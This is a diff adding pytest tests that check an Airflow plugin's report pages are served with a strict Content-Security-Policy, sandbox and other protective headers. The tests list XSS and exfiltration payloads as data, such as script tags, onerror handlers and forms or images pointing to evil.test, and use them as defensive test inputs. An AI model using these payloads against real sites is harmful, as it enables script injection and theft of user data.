@@ -452,6 +452,70 @@ def test_loading_the_plugin_imports_nothing_heavy() -> None:
     assert run.stdout.strip().endswith("[]")
 
 
+# What a report could hold if somebody else can write into the store, and what forbids it there.
+FORBIDDEN = {
+    "<script>fetch('/api/v2/connections')</script>": ("default-src 'none'", "sandbox"),
+    "<img src=x onerror=alert(1)>": ("default-src 'none'", "sandbox"),
+    "<svg><script href='//evil.test/a.js'/></svg>": ("default-src 'none'", "sandbox"),
+    "<iframe src='/skin-models/'></iframe>": ("default-src 'none'",),
+    "<object data='//evil.test'></object><embed src='//evil.test'>": ("default-src 'none'",),
+    "<form action='//evil.test'><input name=password></form>": ("form-action 'none'", "sandbox"),
+    "<base href='//evil.test'>": ("base-uri 'none'",),
+    "<img src='//evil.test/seen.png'>": ("img-src data:",),
+    "<style>@import '//evil.test'; a { background: url(//evil.test) }</style>": (
+        "default-src 'none'",
+        "img-src data:",
+    ),
+    "<meta http-equiv=refresh content='0;url=//evil.test'>": ("sandbox",),
+    "<link rel=dns-prefetch href='//evil.test'>": (),
+}
+ALLOWED = {"allow-same-origin", "allow-downloads"}  # in the sandbox; neither runs or leads anything
+
+
+@pytest.mark.parametrize("hostile", FORBIDDEN)
+def test_a_report_that_a_stranger_wrote_can_do_nothing_in_the_reader_s_name(
+    client: Any, empty: FolderStore, hostile: str
+) -> None:
+    empty.put("gate/4f1ac2/report.html", hostile.encode())
+    answer = client.get("/report/gate/4f1ac2/report.html")
+    assert answer.text == hostile
+    policy = [rule.split() for rule in answer.headers["Content-Security-Policy"].split(";")]
+    rules = {name: set(values) for name, *values in policy}
+    assert len(rules) == len(policy)
+    for rule in FORBIDDEN[hostile]:
+        name, *values = rule.split()
+        assert rules[name] == (set(values) if values else ALLOWED)
+    assert set(rules) == {
+        *("default-src", "style-src", "img-src", "frame-ancestors"),
+        *("base-uri", "form-action", "sandbox"),
+    }
+    assert rules["style-src"] == {"'unsafe-inline'"}
+    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
+    assert answer.headers["X-DNS-Prefetch-Control"] == "off"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/",
+        "/run/skin_training/manual__new",
+        "/view/gate/4f1ac2/report.html",
+        "/report/gate/4f1ac2/report.html",
+    ],
+)
+def test_no_page_is_framed_by_strangers_kept_by_others_or_taken_for_something_else(
+    client: Any, empty: FolderStore, path: str
+) -> None:
+    empty.put("gate/4f1ac2/report.html", b"<h1>Report</h1>")
+    headers = client.get(path).headers
+    policy = headers["Content-Security-Policy"].split("; ")
+    assert {"default-src 'none'", "frame-ancestors 'self'", "form-action 'none'"} < set(policy)
+    assert headers["X-Content-Type-Options"] == "nosniff"
+    assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
+    assert headers["Referrer-Policy"] == "same-origin"
+    assert headers["Cache-Control"] == "private, no-cache"
+
+
 # --- behind Airflow's own login ------------------------------------------------------------------
 
 
